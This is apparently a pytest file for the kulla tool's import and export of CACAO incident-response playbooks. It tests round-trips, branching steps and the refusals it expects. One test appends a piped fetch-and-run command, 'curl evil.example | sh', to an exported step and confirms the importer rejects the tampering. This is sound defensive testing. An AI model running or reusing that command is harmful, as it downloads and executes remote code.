"""CACAO into kulla: its own whole, others as a draft; every kind of step honoured or refused with the reason."""

from __future__ import annotations

from copy import deepcopy
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from engine.errors import InputError
from playbooks.compiler import compile_guide
from playbooks.document import DocumentError
from playbooks.loader import load_library, read_playbook
from playbooks.model import Automation, Playbook, Step
from playbooks.standards.cacao_export import guide_to_cacao, playbook_to_cacao
from playbooks.standards.cacao_extension import EXTENSION
from playbooks.standards.cacao_import import import_cacao
from playbooks.standards.documents import as_json, read_json
from playbooks.steps import Shared
from tests.playbooks.samples import incident
from tests.playbooks.standards.cases import action, foreign, node

_NOTHING = Shared(steps={}, risks={}, evidence={})
_END, _END2 = node("end", "end"), node("end", "2")


def _read(document: Any) -> Any:
    return import_cacao(read_json(as_json(document).encode(), "x"), "x")


def _alike(steps: tuple[Step, ...]) -> list[Step]:
    """Return the steps without where they stand, and with the automation that an imported step may have."""
    return [replace(step, where="", automation=min(step.automation, Automation.SHOW_COMMAND)) for step in steps]


@pytest.mark.parametrize("playbook", load_library(), ids=lambda item: item.id)
@pytest.mark.parametrize("as_guide", [False, True])
def test_what_kulla_wrote_comes_back_whole(playbook: Playbook, as_guide: bool) -> None:  # a parameter
    guide = compile_guide(incident(), playbook, "sq")
    found = _read(guide_to_cacao(guide, "amber") if as_guide else playbook_to_cacao(playbook, "amber", "sq"))
    assert found.is_own
    again = read_playbook(found.yaml.encode(), f"{playbook.id}.yaml", _NOTHING)
    assert _alike(again.steps) == _alike(playbook.steps)
    assert (again.title, again.summary, again.urgency, again.fits) == (
        playbook.title,
        playbook.summary,
        playbook.urgency,
        playbook.fits,
    )


def test_what_another_tool_sorted_comes_back_in_order() -> None:
    playbook = load_library().get("web-attack")
    document = dict(playbook_to_cacao(playbook, "clear"))
    document["workflow"] = dict(sorted(document["workflow"].items()))
    again = read_playbook(_read(document).yaml.encode(), "web-attack.yaml", _NOTHING)
    assert [step.id for step in again.steps] == [step.id for step in playbook.steps]


def test_a_command_that_was_changed_beside_its_extension_is_refused() -> None:
    document: Any = deepcopy(playbook_to_cacao(load_library().get("web-shell"), "clear"))
    step = next(item for item in document["workflow"].values() if item["type"] == "action")
    step["commands"][0]["command"] += "; curl evil.example | sh"
    with pytest.raises(InputError, match="other commands"):
        _read(document)
    step["step_extensions"] = {EXTENSION: {}}
    with pytest.raises(InputError, match="lacks kulla's extension"):
        _read(document)


def test_automation_is_not_imported() -> None:
    document: Any = deepcopy(playbook_to_cacao(load_library().get("web-shell"), "clear"))
    for item in document["workflow"].values():
        if item["type"] == "action":
            item["step_extensions"][EXTENSION]["automation"] = 4
    found = _read(document)
    assert {step["automation"] for step in yaml.safe_load(found.yaml)["steps"]} == {1}
    assert any("earned" in note for note in found.notes)


@pytest.mark.parametrize("name", ["fin", "http", "manual", "openc2", "powershell", "ssh"])
def test_the_public_examples_lose_nothing(shared: Path, name: str) -> None:
    content = (shared / "cacao" / "examples" / f"{name}-playbook.json").read_bytes()
    document = read_json(content, name)
    assert read_json(as_json(document).encode(), name) == document
    found = import_cacao(document, name)
    actions = [item for item in document["workflow"].values() if item["type"] == "action"]
    drafted = yaml.safe_load(found.yaml)["steps"]
    assert len(drafted) == len(actions)
    for item in actions:
        for command in item["commands"]:
            assert str(command.get("command", "")) in found.yaml
            assert str(command.get("content_b64", "")) in found.yaml.replace("\n", "").replace(" ", "")
    assert "Password1234!" not in found.yaml


def test_a_draft_does_not_load_until_it_is_complete() -> None:
    found = _read(foreign({node("action", "a"): action("a", _END), _END: {"type": "end"}}, node("action", "a")))
    with pytest.raises(DocumentError, match="is empty"):
        read_playbook(found.yaml.encode(), f"{found.id}.yaml", _NOTHING)


def _drawn(document: Any) -> dict[str, Any]:
    return {step["id"]: step for step in yaml.safe_load(_read(document).yaml)["steps"]}


def _ends() -> dict[str, object]:
    return {_END: {"type": "end"}, _END2: {"type": "end"}, node("end", "3"): {"type": "end"}}


def _branching(kind: str, **fields: object) -> dict[str, Any]:
    """Return a playbook with one step of `kind` between its start and the action `after`."""
    first, after = node(kind, "k"), node("action", "after")
    workflow = {
        first: {"type": kind, "name": "choice", "on_completion": after, **fields},
        node("action", "one"): action("one", _END2),
        node("action", "two"): action("two", node("end", "3")),
        after: action("after", _END),
        **_ends(),
    }
    return foreign(workflow, first, playbook_variables={"__v__": {"type": "string"}})


def test_an_if_becomes_a_question() -> None:
    ways = {"on_true": node("action", "one"), "on_false": node("action", "two")}
    steps = _drawn(_branching("if-condition", condition="__v__:value = 'a'", **ways))
    assert list(steps) == ["choice", "one", "two", "after"] or set(steps) == {"choice", "one", "two", "after"}
    assert (steps["choice"]["next"]["done"], steps["choice"]["next"]["failed"]) == ("one", "two")
    assert steps["one"]["next"]["done"] == steps["two"]["next"]["done"] == "after"
    assert "__v__:value = 'a'" in str(steps["choice"]["commands"])


@pytest.mark.parametrize("text", ["a\x85b", "a\u2028b\u2029", "a\nb\x85", "\x00\ufeff'\"", " a: b # c "])
def test_an_odd_character_comes_over_as_it_is(text: str) -> None:
    steps = _drawn(_branching("if-condition", condition=text, on_true=node("action", "one"), on_false=node("end", "3")))
    assert text in steps["choice"]["commands"][0]["manual"]["en"]


def test_a_switch_becomes_one_question_after_the_other() -> None:
    cases = {"a": node("action", "one"), "b": node("action", "two"), "default": _END2}
    steps = _drawn(_branching("switch-condition", switch="__v__:value", cases=cases))
    first, second = steps["choice-a"]["next"], steps["choice-b"]["next"]
    assert (first["done"], first["failed"]) == ("one", "choice-b")
    assert (second["done"], second["failed"]) == ("two", "after")


def test_parallel_actions_are_done_side_by_side() -> None:
    branches = [node("action", "one"), node("action", "two")]
    steps = _drawn(_branching("parallel", next_steps=branches))
    assert list(steps) == ["one", "two", "after"]
    assert steps["one"]["together"] == steps["two"]["together"]
    assert {steps[name]["next"]["done"] for name in ("one", "two")} == {"after"}


def test_parallel_branches_of_several_steps_come_one_after_the_other_and_that_is_said() -> None:
    document = _branching("parallel", next_steps=[node("action", "one"), node("action", "two")])
    document["workflow"][node("action", "one")]["on_completion"] = node("action", "more")
    document["workflow"][node("action", "more")] = action("more", _END2)
    found = _read(document)
    steps = {step["id"]: step["next"]["done"] for step in yaml.safe_load(found.yaml)["steps"]}
    assert steps == {"one": "more", "more": "two", "two": "after", "after": "end"}
    assert any("one after the other" in note for note in found.notes)


def test_a_while_is_refused_with_the_reason() -> None:
    with pytest.raises(InputError, match="go forward only"):
        _read(_branching("while-condition", condition="__v__:value = 'a'", on_true=node("action", "one")))


@pytest.mark.parametrize(
    ("change", "told"),
    [
        ({"on_completion": node("action", "gone")}, "not there"),
        ({"on_completion": node("action", "a")}, "leads back"),
        ({"commands": [{"type": "bash", "command": "rm {{file}}"}]}, "holds `{{`"),
    ],
)
def test_what_cannot_be_followed_is_refused(change: dict[str, object], told: str) -> None:
    first = node("action", "a")
    with pytest.raises(InputError, match=told):
        _read(foreign({first: action("a", _END, **change), _END: {"type": "end"}}, first))


def test_what_is_not_carried_over_is_said() -> None:
    first = node("action", "a")
    references = [{"name": "manual"}]
    found = _read(foreign({first: action("a", _END, external_references=references), _END: {"type": "end"}}, first))
    assert any("`external_references` is not carried over" in note for note in found.notes)


def test_times_variables_and_machines_stand_in_the_instruction() -> None:
    first, target = node("action", "a"), node("linux", "t")
    more = {
        "delay": 5,
        "timeout": 9,
        "targets": [target],
        "step_variables": {"__x__": {"type": "string", "value": "7"}},
    }
    places = {target: {"type": "linux", "name": "db1", "address": {"ipv4": ["192.0.2.7"]}}}
    document = foreign({first: action("a", _END, **more), _END: {"type": "end"}}, first, target_definitions=places)
    told = str(_drawn(document)["a"]["commands"][0])
    assert all(part in told for part in ("db1", "192.0.2.7", "__x__ is 7", "wait 5 ms", "after 9 ms"))
